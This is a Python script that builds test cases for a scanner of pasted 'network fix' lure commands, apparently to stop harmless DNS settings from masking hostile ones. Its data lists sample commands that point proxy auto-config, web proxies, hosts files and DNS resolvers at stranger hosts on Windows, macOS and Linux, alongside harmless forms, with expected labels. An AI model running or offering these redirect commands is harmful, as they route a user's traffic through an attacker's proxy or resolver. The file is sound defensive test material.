"""Writes tests/data/cases/lead19.jsonl: one redirect act cleared must not clear another written
beside it (the lead, 2026-12-07 afternoon).

    python tests/data/cases/make_lead19.py

The traffic-redirect rules cleared the whole text when any part of it was harmless: a public
resolver or a local address named anywhere. A lure could add `netsh … dns … 8.8.8.8` after its
proxy script, or `networksetup -setdnsservers Wi-Fi 1.1.1.1;` before its stranger's proxy, and
be clean (found by fpover19). Hosts entries, proxy scripts and DNS servers on Windows, and DNS
servers and proxies on macOS and Linux, are now rules of their own, each cleared only by its own
harmless form. The harmless forms alone stay quiet. Our own texts; reserved names.

Still open: within one act the clearing is still the text's, so a local DNS server set on one
interface clears a stranger's set on another (`-ServerAddresses 192.168.1.1; … 198.51.100.53`).
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write

OUT = Path(__file__).with_name("lead19.jsonl")
LURE = "https://network-repair.example/fix"
WIKI = "https://wiki.contoso.com/it/network"

WIN_LURES = [
    r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL'
    r" /d http://203.0.113.80/proxy.pac /f & netsh interface ip set dns Ethernet static 8.8.8.8",
    r"netsh interface ip set dns name=Wi-Fi static 1.1.1.1 & reg add"
    r' "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /d'
    r" https://pac.route-fast.example/p.pac /f",
    r"Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 9.9.9.9;"
    r" Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings'"
    r" AutoConfigURL 'http://198.51.100.9/wpad.dat'",
    r"Add-Content C:\Windows\System32\drivers\etc\hosts '127.0.0.1 ads.tracker.example';"
    r" netsh interface ip set dns Ethernet static 203.0.113.53",
]
NIX_LURES = [
    "networksetup -setdnsservers Wi-Fi 1.1.1.1; sudo networksetup -setwebproxy Wi-Fi 203.0.113.80"
    " 8080",
    "echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf; sudo networksetup -setwebproxy Wi-Fi"
    " 198.51.100.80 3128",
    "sudo networksetup -setwebproxy Wi-Fi 127.0.0.1 8888; sudo networksetup -setdnsservers Wi-Fi"
    " 203.0.113.53",
    "sudo networksetup -setsecurewebproxy Wi-Fi 10.0.0.2 3128 && echo 'nameserver 198.51.100.53' |"
    " sudo tee /etc/resolv.conf",
    "networksetup -setdnsservers Wi-Fi 9.9.9.9; networksetup -setautoproxyurl Wi-Fi"
    " http://203.0.113.9/wpad.dat",
]
HARMLESS = [
    ("windows", "netsh interface ip set dns name=Ethernet static 1.1.1.1"),
    (
        "windows",
        "Set-DnsClientServerAddress -InterfaceAlias Wi-Fi -ServerAddresses 8.8.8.8,8.8.4.4",
    ),
    ("windows", "netsh interface ip set dns Ethernet static 192.168.1.1 & ipconfig /flushdns"),
    (
        "macos",
        "sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 1.0.0.1\nsudo dscacheutil -flushcache",
    ),
    ("macos", "sudo networksetup -setwebproxy Wi-Fi 127.0.0.1 8888"),
    (
        "macos",
        "networksetup -setdnsservers Wi-Fi 9.9.9.9; networksetup -setwebproxy Wi-Fi 10.0.0.2 3128",
    ),
    ("linux", "echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf"),
]


def build() -> list[dict[str, str]]:
    book = Book("lead19")
    for text in WIN_LURES:
        book.add("redirect-beside-harmless", text, "malicious", "windows", "terminal", LURE)
        book.add("redirect-beside-harmless", text, "suspicious", "windows", "unknown")
    for text in NIX_LURES:
        # one redirect act on macOS or Linux is a warning from any page (the rule's weight); two
        # are a block
        book.add("redirect-beside-harmless", text, "suspicious", "macos", "terminal", LURE)
        book.add("redirect-beside-harmless", text, "suspicious", "macos", "unknown")
    for platform, text in HARMLESS:
        book.add("harmless-resolver", text, "not_flagged", platform, "terminal", WIKI)
        book.add("harmless-resolver", text, "not_flagged", platform, "terminal")
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
